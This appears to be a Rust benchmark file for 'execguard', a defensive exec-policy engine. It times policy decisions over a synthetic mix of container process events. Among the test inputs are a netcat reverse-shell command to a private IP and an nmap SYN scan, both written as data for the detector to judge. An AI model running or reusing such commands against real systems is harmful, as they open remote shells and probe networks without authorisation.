//! Decisions per second with the default policy over a realistic mix of execs: mostly
//! ordinary commands (what containers run all day), some everyday network tools, a few
//! offensive ones. The target is 2 million decisions per second on one core (500 ns
//! each); criterion prints the rate as "thrpt" in elements (decisions) per second.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use execguard_policy::event::Parent;
use execguard_policy::{ExecEvent, FirstLook, Policy};

fn event(executable: &str, argv: &str, parent: Option<(&str, &str)>) -> ExecEvent {
    let mut event = ExecEvent::new(executable, argv.split_whitespace().map(String::from).collect());
    event.process.parent = parent.map(|(exe, args)| Parent {
        executable: Some(exe.into()),
        args: args.split_whitespace().map(String::from).collect(),
        ..Parent::default()
    });
    event.process.interactive = Some(false);
    event.execguard.file.writable_location = Some(false);
    event.execguard.file.in_image = Some(true);
    event
}

/// 20 events: 16 ordinary, 2 everyday network tools, 2 offensive.
fn realistic_mix() -> Vec<ExecEvent> {
    let sh = Some(("/bin/dash", "sh -c /docker-entrypoint.sh"));
    vec![
        event("/bin/ls", "ls -la /app", sh),
        event("/bin/cat", "cat /etc/hostname", sh),
        event("/bin/grep", "grep -q ready /tmp/status", sh),
        event("/bin/busybox", "sed -i s/a/b/ /etc/app.conf", sh),
        event("/usr/bin/python3.11", "python3 /app/manage.py migrate", sh),
        event("/usr/local/bin/node", "node /app/server.js", sh),
        event("/usr/sbin/nginx", "nginx -g daemon off;", Some(("/bin/dash", "sh /docker-entrypoint.sh nginx"))),
        event("/bin/dash", "sh -c date", Some(("/usr/local/bin/node", "node /app/server.js"))),
        event("/bin/date", "date -u", sh),
        event("/usr/bin/env", "env", sh),
        event("/bin/mkdir", "mkdir -p /var/run/app", sh),
        event("/usr/bin/id", "id -u", sh),
        event("/bin/sleep", "sleep 5", sh),
        event("/usr/bin/git", "git rev-parse HEAD", sh),
        event("/usr/bin/java", "java -jar /app/app.jar", sh),
        event("/usr/bin/which", "which nc", sh),
        event("/usr/bin/curl", "curl -fsS http://localhost:8080/healthz", sh),
        event("/usr/bin/curl", "curl -fsSL https://example.com/install.sh", sh),
        event("/usr/bin/nc.openbsd", "nc 10.0.0.1 4444 -e /bin/sh", Some(("/bin/dash", "sh -c nc"))),
        event("/usr/bin/nmap", "nmap -sS 10.0.0.0/24", sh),
    ]
}

fn decide(c: &mut Criterion) {
    let Ok(policy) = Policy::embedded() else { return };
    let mix = realistic_mix();
    let mut group = c.benchmark_group("default_policy");
    group.throughput(Throughput::Elements(mix.len() as u64));
    group.bench_function("realistic_mix", |b| {
        b.iter(|| mix.iter().map(|e| policy.decide(std::hint::black_box(e)).action as u8 as u32).sum::<u32>())
    });
    let ordinary: Vec<ExecEvent> = mix.into_iter().take(16).collect();
    group.throughput(Throughput::Elements(ordinary.len() as u64));
    group.bench_function("allow_path_only", |b| {
        b.iter(|| ordinary.iter().map(|e| policy.decide(std::hint::black_box(e)).action as u8 as u32).sum::<u32>())
    });
    // What the supervisor asks before reading /proc (`first_look`: the needs, or the
    // decision when there are none): an event with only the facts of the file and argv
    // (no parent, no terminal), as it stands at that point.
    let bare: Vec<ExecEvent> =
        ordinary.iter().map(|e| ExecEvent::new(e.process.executable.clone(), e.process.args.clone())).collect();
    group.bench_function("first_look_of_ordinary", |b| {
        b.iter(|| {
            bare.iter().filter(|e| matches!(policy.first_look(std::hint::black_box(e)), FirstLook::Decided(_))).count()
        })
    });
    group.finish();
}

criterion_group!(benches, decide);
criterion_main!(benches);
